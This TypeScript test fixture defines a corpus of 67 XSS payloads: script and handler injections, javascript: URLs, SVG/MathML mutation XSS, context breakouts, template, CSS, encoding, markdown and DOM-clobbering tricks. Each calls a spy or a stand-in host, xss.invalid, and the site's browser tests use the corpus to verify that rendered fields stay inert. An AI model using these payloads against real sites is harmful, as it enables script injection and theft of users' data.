// The standing XSS corpus for the site: strings a stranger can commit in a record, wire log, transcript, scenario or
// CONTEXT.md (PR preview builds render them). Each one, if it ever acted, would call `__pwned(<id>)` (the browser test
// defines it as a spy) or ask `http://xss.invalid/<id>` for something (the browser test routes every request and
// counts any that is not 127.0.0.1; `.invalid` never resolves either). The tests place the whole corpus in every
// rendered field (src/testing/hostile-tree.ts) and check the built HTML and Chromium (src/site/site-hostile.test.ts).

export type PayloadKind =
  | 'script'
  | 'handler'
  | 'js-url'
  | 'svg-mathml'
  | 'breakout'
  | 'attribute'
  | 'template'
  | 'css'
  | 'data-url'
  | 'encoding'
  | 'markdown'
  | 'structure';

export interface XssPayload {
  /** Small stable number: what `__pwned(<id>)` and `xss.invalid/<id>` carry. */
  id: number;
  kind: PayloadKind;
  /** What it tries to do, in words. */
  tries: string;
  text: string;
  /**
   * Whether the string, pasted raw into an HTML text context, creates a forbidden element, attribute or URL (see
   * src/testing/inert-html.ts). The rest aim at other contexts (templates, JS strings, URL or JSON decoding,
   * markdown) and must simply come out as the same text.
   */
  markup: boolean;
}

const P = (id: number, kind: PayloadKind, markup: boolean, tries: string, text: string): XssPayload => ({
  id,
  kind,
  tries,
  text,
  markup,
});

export const XSS_PAYLOADS: readonly XssPayload[] = [
  P(1, 'script', true, 'plain script element', '<script>__pwned(1)</script>'),
  P(2, 'script', true, 'external script, upper case', '<SCRIPT SRC=http://xss.invalid/2.js></SCRIPT>'),
  P(
    3,
    'script',
    true,
    'script from a data: URL, odd attribute separator',
    '<script/x src="data:text/javascript,__pwned(3)"></script>',
  ),
  P(4, 'script', true, 'nested tags against a naive tag filter', '<scr<script>ipt>__pwned(4)</scr</script>ipt>'),
  P(5, 'handler', true, 'img onerror, unquoted', '<img src=x onerror=__pwned(5)>'),
  P(
    6,
    'handler',
    true,
    'img onerror, quoted, with a marker attribute',
    '<img src="x" onerror="__pwned(6)" data-xss="6">',
  ),
  P(7, 'handler', true, 'body onload', '<body onload=__pwned(7)>'),
  P(8, 'handler', true, 'details ontoggle fires without interaction', '<details open ontoggle=__pwned(8)>x</details>'),
  P(9, 'handler', true, 'autofocus + onfocus fires without interaction', '<input autofocus onfocus=__pwned(9)>'),
  P(10, 'handler', true, 'media source onerror', '<video><source onerror=__pwned(10)></video>'),
  P(11, 'js-url', true, 'javascript: link', '<a href="javascript:__pwned(11)" id="xss-11">click</a>'),
  P(
    12,
    'js-url',
    true,
    'javascript: scheme hidden by a tab entity',
    '<a href="jav&#x09;ascript:__pwned(12)">click</a>',
  ),
  P(13, 'js-url', true, 'iframe with a javascript: src', '<iframe src="javascript:__pwned(13)"></iframe>'),
  P(
    14,
    'js-url',
    true,
    'form and button formaction',
    '<form action="javascript:__pwned(14)"><button formaction="javascript:__pwned(14)">go</button></form>',
  ),
  P(15, 'js-url', false, 'a bare javascript: URL where a link may be built from text', 'javascript:__pwned(15)//'),
  P(16, 'svg-mathml', true, 'svg onload', '<svg onload=__pwned(16)>'),
  P(17, 'svg-mathml', true, 'script inside svg', '<svg><script>__pwned(17)</script></svg>'),
  P(
    18,
    'svg-mathml',
    true,
    'svg link with xlink:href',
    '<svg><a xlink:href="javascript:__pwned(18)"><text y="20">x</text></a></svg>',
  ),
  P(19, 'svg-mathml', true, 'svg animate onbegin', '<svg><animate onbegin=__pwned(19) attributeName=x dur=1s></svg>'),
  P(
    20,
    'svg-mathml',
    true,
    'MathML namespace confusion (mXSS)',
    '<math><mtext><table><mglyph><style><img src=x onerror=__pwned(20)>',
  ),
  P(21, 'svg-mathml', true, 'MathML href', '<math href="javascript:__pwned(21)">x</math>'),
  P(
    22,
    'svg-mathml',
    true,
    'foreignObject iframe srcdoc',
    '<svg><foreignObject><iframe srcdoc="<script>parent.__pwned(22)</script>"></iframe></foreignObject></svg>',
  ),
  P(23, 'breakout', true, 'close a script element', '</script><script>__pwned(23)</script>'),
  P(24, 'breakout', true, 'close a style element', '</style><script>__pwned(24)</script>'),
  P(25, 'breakout', true, 'close the title element', '</title><script>__pwned(25)</script>'),
  P(26, 'breakout', true, 'close a textarea', '</textarea><script>__pwned(26)</script>'),
  P(
    27,
    'breakout',
    true,
    'close the replay containers',
    '</pre></code></details></dd></dl><img src=x onerror=__pwned(27)>',
  ),
  P(28, 'breakout', true, 'close an HTML comment', '--><script>__pwned(28)</script><!--'),
  P(29, 'breakout', true, 'close a CDATA section', ']]><script>__pwned(29)</script>'),
  P(30, 'breakout', true, 'noscript/title mXSS', '<noscript><p title="</noscript><img src=x onerror=__pwned(30)>">'),
  P(31, 'attribute', false, 'double-quote attribute breakout', '" onmouseover="__pwned(31)" data-xss="31'),
  P(32, 'attribute', false, 'single-quote attribute breakout', "' onfocus='__pwned(32)' autofocus data-xss='32"),
  P(33, 'attribute', true, 'close the tag from an attribute', '"><img src=x onerror=__pwned(33)>'),
  P(34, 'attribute', false, 'backtick attribute quote (old IE)', '` onload=__pwned(34) x=`'),
  P(35, 'template', false, 'template literal', '${__pwned(35)}'),
  P(36, 'template', false, 'Astro/JSX expression', '{__pwned(36)}'),
  P(37, 'template', false, 'Vue/Angular interpolation', "{{constructor.constructor('__pwned(37)')()}}"),
  P(38, 'template', false, 'server template tags', '<%= __pwned(38) %>'),
  P(
    39,
    'css',
    true,
    'style attribute with url(javascript:)',
    '<div style="background:url(javascript:__pwned(39))">x</div>',
  ),
  P(40, 'css', true, 'CSS expression()', '<div style="width:expression(__pwned(40))">x</div>'),
  P(
    41,
    'css',
    true,
    'style element fetching off-site',
    "<style>@import 'http://xss.invalid/41.css';body{background:url(http://xss.invalid/41.png)}</style>",
  ),
  P(42, 'css', true, 'off-site stylesheet', '<link rel=stylesheet href=http://xss.invalid/42.css>'),
  P(
    43,
    'data-url',
    true,
    'data:text/html link',
    '<a href="data:text/html;base64,PHNjcmlwdD5fX3B3bmVkKDQzKTwvc2NyaXB0Pg==">x</a>',
  ),
  P(
    44,
    'data-url',
    true,
    'object with data: HTML',
    '<object data="data:text/html,<script>__pwned(44)</script>"></object>',
  ),
  P(45, 'data-url', true, 'embed with data: SVG', '<embed src="data:image/svg+xml,<svg onload=__pwned(45)>">'),
  P(46, 'encoding', false, 'already-escaped markup (double decoding)', '&lt;script&gt;__pwned(46)&lt;/script&gt;'),
  P(47, 'encoding', false, 'URL-encoded markup', '%3Cscript%3E__pwned(47)%3C%2Fscript%3E'),
  P(
    48,
    'encoding',
    false,
    'JSON/JS unicode escapes, literal backslashes',
    '\\u003cscript\\u003e__pwned(48)\\u003c/script\\u003e',
  ),
  P(49, 'encoding', false, 'fullwidth angle brackets', '＜script＞__pwned(49)＜/script＞'),
  P(50, 'encoding', false, 'UTF-7', '+ADw-script+AD4-__pwned(50)+ADw-/script+AD4-'),
  P(
    51,
    'encoding',
    true,
    'JS line terminators and a right-to-left override before markup',
    '\u2028\u2029\u202e<img src=x onerror=__pwned(51)>',
  ),
  P(
    52,
    'encoding',
    true,
    'NUL inside a tag name, and a markdown placeholder look-alike',
    '<scr\u0000ipt>__pwned(52)</scr\u0000ipt> \u00000\u0000',
  ),
  P(53, 'markdown', false, 'markdown link to javascript:', '[click](javascript:__pwned(53))'),
  P(54, 'markdown', false, 'markdown link, protocol-relative (off-site)', '[click](//xss.invalid/54)'),
  P(55, 'markdown', false, 'markdown link, backslash protocol-relative', '[click](/\\xss.invalid/55)'),
  P(56, 'markdown', false, 'markdown image (a request on render)', '![x](http://xss.invalid/56.png)'),
  P(
    57,
    'markdown',
    false,
    'markdown link whose URL breaks out of href',
    '[x](https://ok.invalid/"onmouseover="__pwned(57))',
  ),
  P(58, 'markdown', true, 'HTML inside emphasis', '**<img src=x onerror=__pwned(58)>**'),
  P(59, 'markdown', true, 'closing a code span', '`</code><script>__pwned(59)</script>`'),
  P(60, 'markdown', true, 'HTML in a link label', '[<img src=x onerror=__pwned(60)>](https://ok.invalid/)'),
  P(61, 'markdown', false, 'emphasis and code inside a link URL', '[x](https://ok.invalid/**a**`b`)'),
  P(62, 'structure', true, 'base element re-pointing relative URLs', '<base href="http://xss.invalid/62/">'),
  P(
    63,
    'structure',
    true,
    'meta refresh to javascript:',
    '<meta http-equiv="refresh" content="0;url=javascript:__pwned(63)">',
  ),
  P(
    64,
    'structure',
    true,
    "DOM clobbering of the replay script's lookups",
    '<a id="x-0" name="x-0" data-step data-first="0" data-last="99999" href="http://xss.invalid/64">x</a>',
  ),
  P(65, 'structure', true, 'HTML inside a JSON string', '{"html":"<img src=x onerror=__pwned(65)>","id":"</script>"}'),
  P(
    66,
    'structure',
    true,
    'SSE field injection (data:/event:/id: lines)',
    'data: <script>__pwned(66)</script>\n\nevent: message\nid: </details><img src=x onerror=__pwned(66)>',
  ),
  P(67, 'structure', false, 'prototype keys', '__proto__ constructor toString'),
];

/** Every payload, joined: what goes into a field that takes any text. */
export const CORPUS_TEXT = XSS_PAYLOADS.map((p) => p.text).join(' ');

/**
 * The payloads that fit in `max` characters (corpus order from `offset`, joined by spaces), for length-limited fields;
 * `oneLine` leaves out the ones with line breaks.
 */
export function corpusWithin(max: number, offset = 0, oneLine = false): string {
  const out: string[] = [];
  let len = 0;
  for (let i = 0; i < XSS_PAYLOADS.length; i++) {
    const t = XSS_PAYLOADS[(offset + i) % XSS_PAYLOADS.length]!.text;
    if (len + t.length + 1 > max || (oneLine && /[\n\r\u2028\u2029]/.test(t))) continue;
    out.push(t);
    len += t.length + 1;
  }
  return out.join(' ');
}

/** The origin payloads point at for off-site requests; the browser test blocks and counts any request to it. */
export const XSS_HOST = 'xss.invalid';
